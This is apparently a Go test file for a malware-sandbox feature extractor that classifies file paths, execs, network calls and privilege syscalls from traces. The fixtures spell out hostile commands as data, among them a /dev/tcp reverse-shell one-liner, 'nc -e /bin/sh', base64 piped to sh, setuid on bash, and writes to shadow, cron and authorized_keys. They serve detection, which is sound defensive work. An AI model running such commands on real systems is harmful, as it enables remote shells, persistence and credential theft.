package argfeat

import (
	"math"
	"slices"
	"strings"
	"testing"

	"github.com/scalemalnet/scalemalnet/guest/trace"
)

func TestSchema(t *testing.T) {
	names := Schema()
	if len(names) != len(Features()) || len(names) != fPathBase+len(pathClasses)*nOps {
		t.Fatalf("schema has %d names, %d features, want %d", len(names), len(Features()), fPathBase+len(pathClasses)*nOps)
	}
	seen := map[string]bool{}
	for i, f := range Features() {
		if seen[f.Name] || f.Name == "" || f.Doc == "" || f.Scale == "" {
			t.Errorf("column %d: %+v duplicate or undocumented", i, f)
		}
		seen[f.Name] = true
		if names[i] != f.Name {
			t.Errorf("column %d: Schema %q, Features %q", i, names[i], f.Name)
		}
	}
	if names[pathFeature(0, opWrite)] != "path.shadow.write" || names[pathFeature(len(pathClasses)-1, opRename)] != "path.lib.rename" {
		t.Errorf("path grid misplaced: %q %q", names[pathFeature(0, opWrite)], names[pathFeature(len(pathClasses)-1, opRename)])
	}
	if !strings.HasPrefix(Version, "1+") || len(Version) != 10 {
		t.Errorf("version %q", Version)
	}
	v := Extract(nil)
	if len(v) != len(names) || slices.ContainsFunc(v, func(x float64) bool { return x != 0 }) {
		t.Errorf("Extract(nil) = %v, want %d zeros", v, len(names))
	}
	if _, err := v.Get("path.nope.read"); err == nil {
		t.Error("unknown feature accepted")
	}
	if _, err := Vector(nil).Get("run.events"); err == nil {
		t.Error("short vector accepted")
	}
}

func TestClassify(t *testing.T) {
	for _, c := range []struct {
		path, cwd string
		pid       int
		class     string
	}{
		{"/etc/shadow", "", 5, "shadow"},
		{"/etc/../etc//gshadow", "", 5, "shadow"},
		{"shadow", "/etc", 5, "shadow"},
		{"/etc/shadow.bak", "", 5, "etc_other"},
		{"/etc/passwd", "", 5, "passwd"},
		{"/etc/passwd-", "", 5, "passwd"},
		{"/etc/sudoers.d/evil", "", 5, "sudoers"},
		{"/etc/sudoersX", "", 5, "etc_other"},
		{"/etc/pam.d/sshd", "", 5, "pam"},
		{"/usr/lib/x86_64-linux-gnu/security/pam_unix.so", "", 5, "pam"},
		{"/etc/crontab", "", 5, "cron"},
		{"/etc/cron.d/job", "", 5, "cron"},
		{"/var/spool/cron/crontabs/root", "", 5, "cron"},
		{"/etc/systemd/system/evil.service", "", 5, "systemd"},
		{"/root/.config/systemd/user/x.service", "", 5, "systemd"},
		{"/etc/rc.local", "", 5, "initscripts"},
		{"/etc/rc2.d/S01x", "", 5, "initscripts"},
		{"/etc/init.d/x", "", 5, "initscripts"},
		{"/root/.bashrc", "", 5, "shellrc"},
		{"/etc/profile.d/x.sh", "", 5, "shellrc"},
		{"/root/.ssh/authorized_keys", "", 5, "ssh"},
		{"/home/u/.ssh", "", 5, "ssh"},
		{".ssh/id_rsa", "", 5, "ssh"},
		{"/etc/ssh/sshd_config", "", 5, "ssh"},
		{"/root/.bash_history", "", 5, "history"},
		{".bash_history", "", 5, "history"},
		{"/var/log/auth.log", "", 5, "log"},
		{"/var/run/utmp", "", 5, "log"},
		{"/proc/77/mem", "", 5, "proc_other"},
		{"/proc/77/maps", "", 5, "proc_other"},
		{"/proc/5/maps", "", 5, "proc_self"},
		{"/proc/77/status", "", 5, ""},
		{"/proc/self/status", "", 5, "proc_self"},
		{"/proc/99999999999/mem", "", 5, ""},
		{"/dev/tcp/10.0.0.1/80", "", 5, "dev_net"},
		{"/dev/mem", "", 5, "dev_mem"},
		{"/tmp/x", "", 5, "tmp"},
		{"/var/tmp", "", 5, "tmp"},
		{"/tmpfoo", "", 5, ""},
		{"x", "/tmp", 5, "tmp"},
		{"../tmp/x", "/var/log", 5, "tmp"},
		{"/dev/shm/.x", "", 5, "shm"},
		{"/boot/vmlinuz", "", 5, "boot"},
		{"/lib/modules/6.1/kernel/x.ko", "", 5, "kmod"},
		{"/etc/modprobe.d/x.conf", "", 5, "kmod"},
		{"/etc/ld.so.preload", "", 5, "ldso"},
		{"/etc/hosts", "", 5, "hosts"},
		{"/etc/resolv.conf", "", 5, "resolv"},
		{"/etc/hostname", "", 5, "etc_other"},
		{"/root/notes", "", 5, "root_home"},
		{"/home/u/file", "", 5, "home"},
		{"/usr/bin/ls", "", 5, "bin"},
		{"/usr/local/sbin/x", "", 5, "bin"},
		{"/usr/lib/x86_64-linux-gnu/libc.so.6", "", 5, "lib"},
		{"/usr/share/doc", "", 5, ""},
		{"relative/file", "", 5, ""},
		{"", "", 5, ""},
		{"?", "", 5, ""},
	} {
		got := ""
		if i := classify(resolve(c.cwd, c.path), c.pid); i >= 0 {
			got = pathClasses[i].name
		}
		if got != c.class {
			t.Errorf("%q (cwd %q): class %q, want %q", c.path, c.cwd, got, c.class)
		}
	}
}

func TestPathOps(t *testing.T) {
	for _, c := range []struct {
		label string
		x     *trace.Trace
		wants []want
	}{
		{"cat /etc/shadow vs cat /etc/hostname", tr(rd(1, "/etc/shadow"), rd(1, "/etc/hostname")),
			[]want{{"path.shadow.read", L(1)}, {"path.shadow.write", 0}, {"path.etc_other.read", L(1)}}},
		{"append to passwd twice", tr(open(1, "/etc/passwd", "O_WRONLY|O_APPEND", 3), open(1, "/etc/passwd", "O_RDWR", 4)),
			[]want{{"path.passwd.write", L(2)}, {"path.passwd.read", 0}}},
		{"failed open is not counted", tr(open(1, "/etc/shadow", "O_RDONLY", -13), open(1, "/etc/ld.so.preload", "O_RDONLY", -2)),
			[]want{{"path.shadow.read", 0}, {"path.ldso.read", 0}, {"err.eacces", L(1)}, {"err.failed_share", 1}}},
		{"creat, truncate, mkdir", tr(pathCall(1, "creat", "/etc/cron.d/x", 3), pathCall(1, "truncate", "/root/.bash_history", 0),
			pathCall(1, "mkdir", "/root/.ssh", 0)),
			[]want{{"path.cron.write", L(1)}, {"path.history.write", L(1)}, {"path.ssh.write", L(1)}}},
		{"ln -sf /dev/null ~/.bash_history", tr(twoPaths(1, "symlink", "/dev/null", "/root/.bash_history")),
			[]want{{"path.history.write", L(1)}}},
		{"unlink and rmdir", tr(pathCall(1, "unlinkat", "/var/log/wtmp", 0), pathCall(1, "rmdir", "/tmp/d", 0), pathCall(1, "unlink", "/var/log/x", -2)),
			[]want{{"path.log.unlink", L(1)}, {"path.tmp.unlink", L(1)}}},
		{"chmod by path and by fd", tr(pathCall(1, "fchmodat", "/etc/sudoers", 0), wr(1, "/usr/bin/su"), fdCall(1, "fchmod", 3, 0), fdCall(1, "fchown", 9, 0)),
			[]want{{"path.sudoers.chmod", L(1)}, {"path.bin.chmod", L(1)}, {"path.bin.write", L(1)}}},
		{"rename into cron", tr(twoPaths(1, "rename", "/tmp/job", "/etc/cron.d/job"), twoPaths(1, "renameat2", "/tmp/a", "/tmp/b")),
			[]want{{"path.tmp.rename", L(2)}, {"path.cron.rename", L(1)}}},
		{"relative paths after chdir", tr(pathCall(1, "chdir", "/etc", 0), wr(1, "shadow"), pathCall(1, "chdir", "cron.d", 0), wr(1, "job")),
			[]want{{"path.shadow.write", L(1)}, {"path.cron.write", L(1)}}},
		{"fchdir through an fd", tr(open(1, "/root/.ssh", "O_RDONLY|O_DIRECTORY", 5), fdCall(1, "fchdir", 5, 0), wr(1, "authorized_keys")),
			[]want{{"path.ssh.write", L(1)}, {"path.ssh.read", L(1)}}},
		{"the cwd is inherited", tr(pathCall(1, "chdir", "/var/log", 0), fork(1, 2), pathCall(2, "unlink", "auth.log", 0)),
			[]want{{"path.log.unlink", L(1)}}},
		{"/proc mem of another pid", tr(rd(10, "/proc/11/mem"), rd(10, "/proc/10/maps"), rd(10, "/proc/self/status")),
			[]want{{"path.proc_other.read", L(1)}, {"path.proc_self.read", L(2)}}},
		{"exec from /dev/shm", tr(exec(1, "/dev/shm/.x", ".x")),
			[]want{{"path.shm.exec", L(1)}, {"exec.total", L(1)}}},
	} {
		check(t, c.label, c.x, c.wants...)
	}
}

func TestExecFeatures(t *testing.T) {
	failed := exec(1, "/usr/local/bin/sh", "sh")
	failed.Ret, failed.Err = -2, "ENOENT"
	denied := exec(1, "/tmp/x", "x")
	denied.Ret, denied.Err = -13, "EACCES"
	fileless := exec(1, "", "x")
	fileless.Name = "execveat"
	for _, c := range []struct {
		label string
		x     *trace.Trace
		wants []want
	}{
		{"shells", tr(exec(1, "/bin/sh", "sh", "-c", "id"), exec(2, "/usr/bin/bash", "bash", "-i"), exec(3, "/bin/dash", "dash", "-ec", "x")),
			[]want{{"exec.shell", L(3)}, {"exec.shell_c", L(2)}, {"exec.total", L(3)}, {"exec.distinct", L(3)}}},
		{"interpreters with versions", tr(exec(1, "/usr/bin/python3.11", "python3"), exec(2, "/usr/bin/perl5.36.0", "perl"), exec(3, "/usr/bin/gawk", "awk")),
			[]want{{"exec.interpreter", L(3)}, {"exec.shell", 0}}},
		{"tools", tr(exec(1, "/usr/bin/nc", "nc", "-e", "/bin/sh", "10.1.2.3", "4444"), exec(2, "/usr/bin/wget", "wget", "http://x/y"),
			exec(3, "/usr/sbin/useradd", "useradd", "-m", "evil"), exec(4, "/usr/bin/crontab", "crontab", "-l"),
			exec(5, "/usr/sbin/insmod", "insmod", "x.ko"), exec(6, "/usr/bin/chattr", "chattr", "+i", "f"),
			exec(7, "/usr/bin/id", "id"), exec(8, "/usr/bin/shred", "shred", "-u", "f"), exec(9, "/usr/bin/base64", "base64", "-d"),
			exec(10, "/usr/bin/tar", "tar", "czf", "x"), exec(11, "/usr/bin/pip3", "pip3"), exec(12, "/usr/bin/gcc", "gcc"),
			exec(13, "/usr/sbin/iptables", "iptables", "-F"), exec(14, "/usr/bin/sudo", "sudo", "-u", "root", "bash")),
			[]want{{"exec.net_connect_tool", L(1)}, {"exec.net_fetch_tool", L(1)}, {"exec.user_tool", L(1)}, {"exec.persist_tool", L(1)},
				{"exec.kmod_tool", L(1)}, {"exec.perm_tool", L(1)}, {"exec.recon_tool", L(1)}, {"exec.wipe_tool", L(1)},
				{"exec.encode_tool", L(1)}, {"exec.archive_tool", L(1)}, {"exec.pkg_tool", L(1)}, {"exec.compiler", L(1)},
				{"exec.defense_tool", L(1)}, {"exec.priv_tool", L(1)}, {"exec.shell", L(1)},
				{"exec.argv_url", L(1)}, {"exec.argv_ip", L(1)}, {"exec.argv_decode", L(1)}, {"exec.total", L(14)}, {"exec.distinct", L(15)}}},
		{"wrappers", tr(exec(1, "/usr/bin/env", "env", "A=1", "python3", "x.py"), exec(2, "/bin/busybox", "busybox", "sh", "-c", "x"),
			exec(3, "/usr/bin/nohup", "nohup", "nice", "-n", "5", "/tmp/miner")),
			[]want{{"exec.interpreter", L(1)}, {"exec.shell", L(1)}, {"exec.shell_c", L(1)}, {"exec.recon_tool", L(1)}, {"exec.total", L(3)}}},
		{"failed execs", tr(failed, denied, exec(1, "/bin/sh", "sh")),
			[]want{{"exec.total", L(1)}, {"exec.denied", L(1)}, {"exec.shell", L(1)}}},
		{"fileless", tr(fileless, exec(2, "/proc/self/fd/3", "x"), exec(3, "/memfd:x (deleted)", "x")),
			[]want{{"exec.fileless", L(3)}}},
		{"chmod modes", tr(exec(1, "/bin/chmod", "chmod", "+x", "/tmp/a"), exec(2, "/bin/chmod", "chmod", "-R", "4755", "/tmp/b"),
			exec(3, "/bin/chmod", "chmod", "644", "/tmp/c"), exec(4, "/bin/chmod", "chmod", "u=rwx,g+s", "/tmp/d"), exec(5, "/bin/chmod", "chmod", "0640", "x"),
			exec(6, "/usr/bin/sudo", "sudo", "chmod", "u+s", "/bin/bash"), exec(7, "/usr/bin/sudo", "sudo", "id", "+x")),
			[]want{{"exec.chmod_exec", L(3)}, {"exec.chmod_setid", L(3)}, {"exec.perm_tool", L(6)}, {"exec.priv_tool", L(2)}}},
		{"argv", tr(exec(1, "/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
			exec(2, "/bin/sh", "sh", "-c", "echo aGk= | base64 --decode | sh"), exec(3, "/usr/bin/curl", "curl", "127.0.0.1:80"),
			exec(4, "/usr/bin/python3", "python3", "-c", "import base64;base64.b64decode('x')")),
			[]want{{"exec.argv_dev_net", L(1)}, {"exec.argv_decode", L(2)}, {"exec.argv_ip", L(1)}, {"exec.argv_url", 0}}},
	} {
		check(t, c.label, c.x, c.wants...)
	}
}

func TestNetFeatures(t *testing.T) {
	revshell := tr(
		fdCall(1, "socket", -1, 3), addrCall(1, "bind", 3, "inet 127.0.0.1:4444", 0), fdCall(1, "listen", 3, 0),
		fork(1, 2), addrCall(2, "accept", 3, "inet 127.0.0.1:5555", 4),
		fdCall(1, "socket", -1, 4), addrCall(1, "connect", 4, "inet 127.0.0.1:4444", 0),
		fdCall(1, "dup2", 4, 0), fdCall(1, "dup2", 4, 1), fdCall(1, "dup2", 4, 2), fdCall(1, "close", 4, 0),
		exec(1, "/bin/sh", "sh", "-i"))
	miner := tr(fdCall(1, "socket", -1, 3), addrCall(1, "connect", 3, "inet 127.0.0.1:3333", -111), fdCall(1, "close", 3, 0),
		fdCall(1, "socket", -1, 3), addrCall(1, "connect", 3, "inet 127.0.0.1:3333", -111))
	remote := tr(addrCall(1, "connect", 3, "inet 93.184.216.34:443", -115), addrCall(1, "connect", 4, "inet6 [2001:db8::1]:443", 0),
		addrCall(1, "connect", 5, "inet 93.184.216.34:80", 0), addrCall(1, "sendto", 6, "inet 10.0.0.53:53", 40),
		addrCall(1, "connect", 7, "unix /run/nscd/socket", -2), addrCall(1, "connect", 8, "inet6 [::ffff:127.0.0.1]:22", 0),
		addrCall(1, "bind", 9, "inet 0.0.0.0:8080", 0), addrCall(1, "bind", 10, "inet6 [::]:8080", 0), addrCall(1, "connect", 11, "garbage", 0))
	// A socket dup'ed onto stdin in the parent, inherited by a forked child
	// that execs a shell.
	inherited := tr(fdCall(1, "socket", -1, 5), fdCall(1, "dup2", 5, 0), fork(1, 2), exec(2, "/bin/bash", "bash"))
	// Stdout is a file, not a socket: no socket shell.
	notSock := tr(wr(1, "/tmp/out"), fdCall(1, "dup2", 3, 1), exec(1, "/bin/sh", "sh"))
	// A socket moved to fd 0 then the fd reused by a file.
	reused := tr(fdCall(1, "socket", -1, 3), fdCall(1, "dup2", 3, 0), fdCall(1, "close", 0, 0), open(1, "/dev/null", "O_RDONLY", 0),
		exec(1, "/bin/sh", "sh"))
	for _, c := range []struct {
		label string
		x     *trace.Trace
		wants []want
	}{
		{"reverse shell", revshell, []want{{"net.socket", L(2)}, {"net.connect", L(1)}, {"net.connect.loopback", L(1)},
			{"net.connect.remote", 0}, {"net.listen", L(1)}, {"net.accept", L(1)}, {"net.bind", L(1)}, {"net.bind.any", 0},
			{"net.socket_stdio", L(3)}, {"net.socket_shell", 1}, {"net.remote_hosts", 0}, {"net.ports", L(1)}}},
		{"miner", miner, []want{{"net.connect", L(2)}, {"net.connect_failed", L(2)}, {"net.connect.inet", L(2)},
			{"net.connect.loopback", L(2)}, {"net.socket_stdio", 0}, {"net.socket_shell", 0}}},
		{"remote", remote, []want{{"net.connect", L(6)}, {"net.connect_failed", 0}, {"net.connect.inet", L(2)},
			{"net.connect.inet6", L(2)}, {"net.connect.unix", L(1)}, {"net.connect.remote", L(3)}, {"net.connect.loopback", L(1)},
			{"net.remote_hosts", L(3)}, {"net.ports", L(4)}, {"net.dns", L(1)}, {"net.bind.any", L(2)}}},
		{"inherited socket stdin", inherited, []want{{"net.socket_stdio", L(1)}, {"net.socket_shell", 1}}},
		{"file on stdout", notSock, []want{{"net.socket_stdio", 0}, {"net.socket_shell", 0}}},
		{"fd reused", reused, []want{{"net.socket_stdio", L(1)}, {"net.socket_shell", 0}}},
	} {
		check(t, c.label, c.x, c.wants...)
	}
}

func TestFileFlows(t *testing.T) {
	for _, c := range []struct {
		label string
		x     *trace.Trace
		wants []want
	}{
		{"dropper", tr(wr(1, "/tmp/.p"), fdCall(1, "fchmod", 3, 0), exec(2, "/tmp/.p", ".p"), pathCall(2, "unlink", "/tmp/.p", 0)),
			[]want{{"file.written", L(1)}, {"file.written_chmod", L(1)}, {"file.written_exec", L(1)}, {"file.written_deleted", L(1)},
				{"file.exec_deleted", L(1)}, {"file.hidden_written", L(1)}, {"path.tmp.exec", L(1)}}},
		{"relative names resolve to one path", tr(pathCall(1, "chdir", "/tmp", 0), wr(1, "p"), pathCall(1, "chmod", "/tmp/./p", 0),
			exec(1, "./p", "./p")),
			[]want{{"file.written_exec", L(1)}, {"file.written_chmod", L(1)}}},
		{"moved then run", tr(wr(1, "/tmp/a"), twoPaths(1, "rename", "/tmp/a", "/usr/local/bin/a"), exec(1, "/usr/local/bin/a", "a")),
			[]want{{"file.written_exec", L(1)}, {"path.bin.exec", L(1)}}},
		{"each path once", tr(wr(1, "/tmp/a"), wr(1, "/tmp/a"), exec(1, "/tmp/a"), exec(1, "/tmp/a"), rd(1, "/etc/hostname"), rd(1, "/tmp/a")),
			[]want{{"file.written", L(1)}, {"file.written_exec", L(1)}, {"file.read", L(1)}}},
		{"self-delete without writing", tr(exec(1, "/root/sample", "sample"), pathCall(1, "unlink", "/root/sample", 0)),
			[]want{{"file.exec_deleted", L(1)}, {"file.written_deleted", 0}, {"path.root_home.unlink", L(1)}}},
		{"exec before write is not a dropper", tr(exec(1, "/tmp/a", "a"), wr(1, "/tmp/a")),
			[]want{{"file.written_exec", 0}}},
	} {
		check(t, c.label, c.x, c.wants...)
	}
}

func TestPrivAndCounts(t *testing.T) {
	ptr := ev(1, "ptrace", -1)
	ptr.Err = "EPERM"
	x := tr(ev(1, "setuid", 0), ev(1, "setresgid32", 0), ev(1, "capset", 0), ptr, ev(1, "ptrace", 0), ev(1, "process_vm_writev", 10),
		ev(1, "memfd_create", 3), ev(1, "kill", 0), ev(1, "tgkill", 0), ev(1, "finit_module", 0), ev(1, "mount", 0), ev(1, "unshare", 0),
		ev(1, "bpf", 3), ev(1, "sethostname", 0), ev(1, "prctl", 0))
	check(t, "priv", x, want{"priv.setid", L(2)}, want{"priv.capset", L(1)}, want{"priv.ptrace", L(2)}, want{"priv.ptrace_failed", L(1)},
		want{"priv.process_vm", L(1)}, want{"priv.memfd", L(1)}, want{"priv.kill", L(2)}, want{"priv.module", L(1)},
		want{"priv.mount", L(2)}, want{"priv.bpf", L(1)}, want{"priv.admin", L(1)}, want{"priv.prctl", L(1)},
		want{"err.failed_share", 1.0 / 15}, want{"err.eacces", L(1)})

	// Dropped events: per-name counts stay exact, argument features see
	// only the kept events, and the share says how much is missing.
	d := &trace.Trace{Windows: []trace.Window{
		{Index: 0, End: 1e9, Counts: map[string]int{"openat": 1, "setuid": 3, "connect": 5}, Events: []trace.Event{wr(1, "/etc/passwd")}, Dropped: 8},
		{Index: 1, Start: 1e9, End: 2e9, Counts: map[string]int{"kill": 2, "bogus": -5}, Dropped: 2},
	}, Summary: trace.Summary{Outcome: trace.OutcomeTimeout, Events: 11, Kept: 1, Truncated: true, DurationNs: 2e9}}
	check(t, "dropped", d, want{"priv.setid", L(3)}, want{"net.connect", L(5)}, want{"net.connect.inet", 0}, want{"priv.kill", L(2)},
		want{"path.passwd.write", L(1)}, want{"run.events", L(11)}, want{"run.kept", L(1)}, want{"run.dropped_share", 10.0 / 11},
		want{"run.timeout", 1}, want{"run.signaled", 0}, want{"run.duration_s", math.Log1p(2)})
}

func TestProcesses(t *testing.T) {
	x := tr(exec(2, "/bin/sh", "sh", "-c", "id"))
	x.Summary.Processes = []trace.Process{
		{PID: 1, Exe: "/root/sample", Threads: 3},
		{PID: 2, PPID: 1, Exe: "/bin/sh", Argv: []string{"sh", "-c", "id"}, Threads: 1},
		{PID: 3, PPID: 2, Exe: "/usr/bin/id", Argv: []string{"id"}, Threads: 1}, // exec not kept
		{PID: 4, PPID: 3, Exe: "/usr/bin/id", Argv: []string{"id"}, Threads: 1}, // a fork: same program as its parent
	}
	x.Summary.ProcessesDropped = 2
	// Without dropped events the table adds no program.
	check(t, "complete", x, want{"proc.count", L(6)}, want{"proc.threads", L(6)}, want{"proc.depth", 3},
		want{"exec.total", L(1)}, want{"exec.recon_tool", 0})
	// With dropped events the exec of pid 3 is taken from the table.
	x.Windows[0].Dropped = 4
	x.Summary.Events += 4
	check(t, "dropped", x, want{"exec.total", L(2)}, want{"exec.recon_tool", L(1)}, want{"exec.shell", L(1)}, want{"exec.distinct", L(2)})

	// A parent cycle and a missing parent stay bounded.
	c := tr()
	c.Summary.Processes = []trace.Process{{PID: 1, PPID: 2}, {PID: 2, PPID: 1}, {PID: 3, PPID: 99}, {PID: 4, PPID: 3}}
	v := Extract(c)
	if d, _ := v.Get("proc.depth"); d < 1 || d > maxProcDepth {
		t.Errorf("cycle: depth %v", d)
	}
}

func TestHostile(t *testing.T) {
	long := strings.Repeat("/a", 1<<16)
	e1 := exec(1, long, strings.Repeat("x", 1<<16), strings.Repeat("1.2.3.4 ", 1<<12))
	e2 := open(1, "/etc/shadow"+long, strings.Repeat("O_WRONLY|", 1<<12), 1<<40)
	e3 := addrCall(1, "connect", -5, "inet "+long, 0)
	e4 := fdCall(1, "dup2", 1<<30, 1<<31)
	var many []trace.Event
	for i := 0; i < 3*maxForkCopy; i++ {
		many = append(many, fdCall(1, "socket", -1, int64(i)))
	}
	many = append(many, fork(1, 2), fork(1, 1), fork(1, -3), e1, e2, e3, e4)
	x := tr(many...)
	x.Windows[0].Counts["setuid"] = math.MaxInt
	x.Windows[0].Counts["kill"] = math.MaxInt
	x.Summary.DurationNs = math.MaxInt64
	x.Summary.Events = -4
	v := Extract(x)
	for i, f := range v {
		if math.IsNaN(f) || math.IsInf(f, 0) || f < 0 {
			t.Errorf("%s = %v", Schema()[i], f)
		}
	}
	if got, _ := v.Get("exec.argv_ip"); got != L(1) {
		t.Errorf("exec.argv_ip = %v on a long argv", got)
	}
	if got, _ := v.Get("priv.setid"); got != math.Log1p(maxCountValue) {
		t.Errorf("priv.setid = %v, want the clamped count", got)
	}
}

func TestDeterministic(t *testing.T) {
	x := tr(wr(1, "/tmp/a"), exec(1, "/tmp/a"), fdCall(1, "socket", -1, 3), fork(1, 2), fdCall(2, "dup2", 3, 0), exec(2, "/bin/sh", "sh"),
		addrCall(1, "connect", 3, "inet 8.8.8.8:53", 0), rd(1, "/etc/passwd"))
	x.Windows[0].Counts["setuid"] = 3
	// Huge counts whose float sum would depend on the (random) map order.
	for i, n := range []int{1 << 53, 1, 1, 1, 1, math.MaxInt - 7, 3} {
		x.Windows[0].Counts[string(rune('a'+i))] = n
	}
	x.Windows[0].Counts["kill"] = 1 << 53
	x.Windows[0].Counts["tkill"] = 1
	x.Windows[0].Counts["tgkill"] = 1
	first := Extract(x)
	for i := 0; i < 50; i++ {
		if v := Extract(x); !slices.Equal(v, first) {
			t.Fatalf("run %d differs", i)
		}
	}
}

// TestLaunch: the agent's exec of the sample is not counted as the
// sample's behaviour, but the sample deleting itself is.
func TestLaunch(t *testing.T) {
	x := tr(exec(100, "/tmp/smn/sample", "/tmp/smn/sample"), exec(100, "/bin/sh", "sh", "-i"), pathCall(100, "unlink", "/tmp/smn/sample", 0))
	check(t, "root", x, want{"exec.total", L(1)}, want{"exec.shell", L(1)}, want{"path.tmp.exec", 0}, want{"path.bin.exec", L(1)},
		want{"file.exec_deleted", L(1)}, want{"exec.distinct", L(1)})
	// Without a process table, the first event's process is the root.
	x.Summary.Processes = nil
	check(t, "no table", x, want{"exec.total", L(1)}, want{"path.tmp.exec", 0})
	// A script sample: the interpreter the agent starts is not a shell exec.
	s := tr(exec(100, "/bin/bash", "bash", "/tmp/smn/sample"), exec(101, "/usr/bin/id", "id"))
	check(t, "script", s, want{"exec.shell", 0}, want{"exec.recon_tool", L(1)}, want{"exec.total", L(1)})
}
